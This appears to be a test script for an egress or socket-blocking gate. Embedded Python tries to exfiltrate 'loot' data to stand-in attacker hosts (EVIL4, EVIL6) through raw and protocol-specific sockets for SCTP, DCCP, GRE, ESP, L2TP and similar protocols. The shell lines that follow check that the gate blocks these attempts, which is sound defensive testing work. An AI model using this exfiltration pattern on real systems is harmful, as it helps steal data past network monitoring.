#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: uses SCTP, DCCP, UDP-Lite, L2TP, GRE, IP-in-IP, IPv6-in-IPv4, ESP and AH: by sockets of the kernel where it has them, new and older than the gate, by raw sockets older than the gate for all
# stopped-by: egress, sock_create
# reason: protocol, socket_type
# kernels: all
. "$(dirname "$0")/lib.sh"
arena tcp/443

attack_by <<'PYTHON'
from attacker import *

PROTOCOLS = {"ipip": 4, "dccp": 33, "sixin4": 41, "gre": 47, "esp": 50, "ah": 51, "l2tp": 115, "sctp": 132, "udplite": 136,
             "nothing-yet": 253}
SOCKETS = {"sctp": (socket.SOCK_STREAM, 132), "sctp-packets": (socket.SOCK_SEQPACKET, 132), "dccp": (6, 33),
           "udplite": (socket.SOCK_DGRAM, 136), "l2tp": (socket.SOCK_DGRAM, 115)}

raw = {name: (socket.socket(socket.AF_INET, socket.SOCK_RAW, number),
              socket.socket(socket.AF_INET6, socket.SOCK_RAW, number)) for name, number in PROTOCOLS.items()}
older = {}
for name, (kind, number) in SOCKETS.items():
    with attempt("an older socket for " + name):
        older[name] = socket.socket(socket.AF_INET, kind, number)
ready()
for name, sock in older.items():
    with attempt("older " + name):
        sock.settimeout(0.2)
        sock.connect((EVIL4, 9000))
        sock.send(loot("older-" + name))
for name, (raw4, raw6) in raw.items():
    with attempt(name):
        raw4.sendto(loot(name + "-4"), (EVIL4, 0))
    with attempt(name):
        raw6.sendto(loot(name + "-6"), (EVIL6, 0))
for name, (kind, number) in SOCKETS.items():
    with attempt("a socket for " + name):
        sock = socket.socket(socket.AF_INET, kind, number)
        sock.settimeout(0.2)
        sock.connect((EVIL4, 9000))
        sock.send(loot("socket-" + name))
PYTHON
works_once_open stolen:{ipip,dccp,sixin4,gre,esp,ah,l2tp,sctp,udplite,nothing-yet}-{4,6}
stopped_once_open gate
recorded egress socket_type
if grep -q 'a socket for udplite EPERM' <<<"$SAID"; then recorded sock_create protocol; fi
